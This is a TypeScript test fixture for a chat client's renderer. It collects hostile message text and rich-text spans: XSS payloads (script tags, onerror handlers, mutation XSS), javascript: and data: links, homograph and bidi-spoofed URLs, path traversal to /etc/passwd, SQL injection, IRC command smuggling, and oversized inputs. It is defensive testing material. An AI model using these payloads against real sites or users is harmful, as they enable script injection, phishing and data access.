/**
 * What attackers send. Every text is used as a message, a name, a topic, an id, a reaction…; a clean window shows it as
 * text, runs nothing, fetches nothing and keeps its shape. `tripwire` is a function that the journeys put into the page.
 */
import { richText, type RichText } from '../../protocols/model/rich-text.ts';

export interface Hostile {
	readonly name: string;
	readonly text: string;
}

const one = (name: string, text: string): Hostile => ({ name, text });
/** A host that nothing may ever ask for anything. */
const trapHost = 'trap.invalid';
const trap = `http://${trapHost}`;

const scripts: readonly Hostile[] = [
	one('script element', `<script>tripwire('script')</script>`),
	one('script from elsewhere', `<script src="${trap}/x.js"></script>`),
	one('image with a handler', `<img src=x onerror=tripwire('img')>`),
	one('image that tells who looks', `<img src="${trap}/pixel.png">`),
	one('vector image with a handler', `<svg/onload=tripwire('svg')><script>tripwire('svg2')</script></svg>`),
	one('frame with a document', `<iframe srcdoc="<script>parent.tripwire('frame')</script>"></iframe>`),
	one('object and embed', `<object data="${trap}/x"></object><embed src="${trap}/y">`),
	one('style', `<style>@import "${trap}/x.css"; * { display: none }</style>`),
	one('base and refresh', `<base href="${trap}/"><meta http-equiv=refresh content="0;url=${trap}">`),
	one('attribute break-out', `"><img src=x onerror=tripwire('attr')> ' onmouseover='tripwire(1)' x='`),
	one('template and expression', '{{constructor.constructor("tripwire(1)")()}} ${tripwire(1)} <%= tripwire(1) %>'),
	one('comment mutation', `<!--><img src=x onerror=tripwire('c')>--> <noscript><p title="</noscript><img src=x>">`),
	one(
		'mathml mutation',
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=tripwire(1)&gt;">`,
	),
	one('entities', `&lt;img src=x onerror=tripwire(1)&gt; &#60;script&#62;tripwire(1)&#60;/script&#62; &amp;`),
	one('interpolation', '{{name}} $t(app.title) {{- name}} __proto__ %s %o'),
	one(
		'form',
		`<form action="${trap}"><input autofocus onfocus=tripwire('f')><button formaction=javascript:tripwire(1)>`,
	),
];

const links: readonly Hostile[] = [
	one('javascript address', `javascript:tripwire('link')`),
	one('javascript address in disguise', `JaVaScRiPt:tripwire(1) java\tscript:tripwire(1) \u0001javascript:tripwire(1)`),
	one('javascript address with a host', `javascript://${trapHost}/%0Atripwire(1)`),
	one('data address', `data:text/html,<script>tripwire('data')</script>`),
	one('data address, encoded', 'data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgxKTwvc2NyaXB0Pg=='),
	one('vbscript, file and blob', 'vbscript:tripwire file:///etc/passwd blob:null/x ms-msdt:/id intent://x#Intent;end'),
	one('link with a user name', `https://bank.example@${trapHost}/login`),
	one('link in another alphabet', 'https://аррӏе.com/ https://xn--80ak6aa92e.com/ http://ｅxample.com'),
	one('link turned around', 'https://example.org/\u202egpj.exe'),
	one('chat link with arguments', `xmpp:a@b?join;password=x irc://x/#y%0D%0AQUIT matrix:r/x:y?action=join --flag`),
];

const signs: readonly Hostile[] = [
	one('override', '\u202Eevil\u202C and \u2067left\u2069 \u202Dright'),
	one('overrides that stay open', '\u202E\u202E\u2066\u2067\u2068 never closed'),
	one('closing what is not open', '\u2069\u2069\u202C\u202C closed too often'),
	one('right to left', 'שלום עולם مرحبا بالعالم 123'),
	one('controls', 'bell\u0007 back\u0008 escape\u001b[31mred\u001b[0m delete\u007f next\u0085 end'),
	one('nul', 'before\u0000after'),
	one('separators of lines', 'one\u2028two\u2029three\u000bfour\u000cfive'),
	one('carriage return', 'first\r\nQUIT :gone\rPRIVMSG #x :second'),
	one('zero width', 'a\u200bd\u200cm\u200di\ufeffn\u2060 \u00ad \u034f \u180e \u3164'),
	one('only zero width', '\u200b\u200c\u200d\u2060\ufeff'),
	one('variation selectors and tags', `x${'\ufe0f'.repeat(200)}y${'\u{e0041}'.repeat(200)}z`),
	one('marks', `Z${'\u0301\u0323\u0489\u035c'.repeat(100)}a${'\u0300'.repeat(300)}lgo`),
	one('marks without a base', '\u0301'.repeat(500)),
	one(
		'wide and tall signs',
		'\u{12031}\u2e3b\u2e3b\u2e3b \ufdfd\ufdfd \u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} \u0bf8',
	),
	one('joined emoji', Array.from({ length: 200 }, () => '\u{1f468}').join('\u200d')),
	one('half a sign', 'x\ud83d y\ude00 \udc00\ud800'),
	one('no characters', '\uffff\ufffe\u{10ffff}\ue000\ufffd'),
	one('colours of IRC', `${'\u000304,07x\u0003'.repeat(300)}\u0002\u001d\u001f\u0016\u000f`),
	one('broken colours of IRC', '\u000399,99x\u0003,\u0004zzzzzz\u0003\u0003\u0003 end'),
];

const sizes: readonly Hostile[] = [
	one('a long word', 'W'.repeat(5_000)),
	one('a line of 64 kB', `${'0123456789abcdef'.repeat(4096)}`),
	one('64 kB of short words', 'ab '.repeat(21_845)),
	one('a long address', `https://example.org/${'a/'.repeat(1900)}`),
	one('many lines', `first${'\n'.repeat(800)}last`),
	one('nested marks', `${'**_~~`'.repeat(500)}x${'`~~_**'.repeat(500)}`),
	one('nested quotes', `${'>'.repeat(2000)} deep\n${'> '.repeat(1000)}deeper`),
	one('nested elements', `${'<div><blockquote>'.repeat(2000)}x`),
	one('slow patterns', `${'('.repeat(3000)}${'a'.repeat(3000)}!${'[]('.repeat(1000)}${'@.'.repeat(1000)}`),
];

const keys: readonly Hostile[] = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf'].map(
	(key) => one(`property ${key}`, key),
);
const words: readonly Hostile[] = ['null', 'undefined', 'NaN', '-1', '[object Object]', 'true'].map((word) =>
	one(`word ${word}`, word),
);
const ids: readonly Hostile[] = [
	one('id of a path', '../../../../etc/passwd%00.png'),
	one('id of a query', '?access_token=x&y=z#fragment;a=b'),
	one('id of spaces', ' \t '),
	one('id of selectors', '"] , [data-message] , * {} \\'),
	one('id of statements', `'; DROP TABLE messages; -- " OR 1=1`),
	one('id of colons', ':::@!#$:::/@/:'),
];

export const hostileTexts: readonly Hostile[] = [...scripts, ...links, ...signs, ...sizes, ...keys, ...words, ...ids];

export interface HostileRich {
	readonly name: string;
	readonly rich: RichText;
}

/** Formatting that no honest program sends. */
export const hostileRich: readonly HostileRich[] = [
	...[
		`javascript:tripwire('rich')`,
		`data:text/html,<script>tripwire('rich')</script>`,
		`https://bank.example@${trapHost}/`,
		'file:///etc/passwd',
		`//${trapHost}/x`,
		'https://аррӏе.com/',
		' \u0000https://x',
	].map((url) => ({
		name: `words that link to ${url.slice(0, 24)}`,
		rich: richText('https://honest.example/ press here', [{ kind: 'link', url, start: 0, end: 34 }]),
	})),
	{
		name: 'colours that are code',
		rich: richText('red alert', [
			{ kind: 'color', fg: `red;background:url(${trap}/c)`, bg: `url(${trap}/b)`, start: 0, end: 3 },
			{ kind: 'color', fg: '__proto__', bg: '999', start: 4, end: 9 },
		]),
	},
	{
		name: 'absurd depths',
		rich: richText('quote\nlist\nheading', [
			{ kind: 'quote', depth: 1e9, start: 0, end: 5 },
			{ kind: 'list-item', ordinal: -5, depth: 1e9, start: 6, end: 10 },
			{ kind: 'heading', level: -1e9, start: 11, end: 18 },
		]),
	},
	{
		name: 'two thousand spans over each other',
		rich: richText(
			'x'.repeat(2000),
			Array.from(
				{ length: 2000 },
				(_, n) => ({ kind: n % 2 === 0 ? 'bold' : 'spoiler', reason: null, start: n, end: 2000 }) as const,
			),
		),
	},
	{
		name: 'thousands of lines under thousands of spans',
		rich: richText(
			`first${'\n'.repeat(20_000)}end`,
			Array.from({ length: 2000 }, (_, n) => ({ kind: 'italic', start: n, end: 20_000 }) as const),
		),
	},
	{
		name: 'code of a hostile language',
		rich: richText(`</code><img src=x onerror=tripwire(1)>`, [
			{ kind: 'code-block', language: `"><script>tripwire('lang')</script>`, start: 0, end: 38 },
		]),
	},
	{
		name: 'a table as code, too wide',
		rich: richText('W'.repeat(5000), [{ kind: 'code-block', language: null, start: 0, end: 5000 }]),
	},
	{
		name: 'spoiler with a hostile reason',
		rich: richText('secret words', [
			{ kind: 'spoiler', reason: `"><img src=x onerror=tripwire(1)>\u202e`, start: 0, end: 12 },
		]),
	},
];

/** Part of a text, for places that networks bound, such as names. */
export function cut(text: string, length: number): string {
	return text.slice(0, length);
}

/** As it stands in the window: without the signs that turn lines around, and with broken signs replaced. */
export function shown(text: string): string {
	return text.replaceAll(/[\u200e\u200f\u202a-\u202e\u2066-\u2069\u061c]/gu, '').toWellFormed();
}
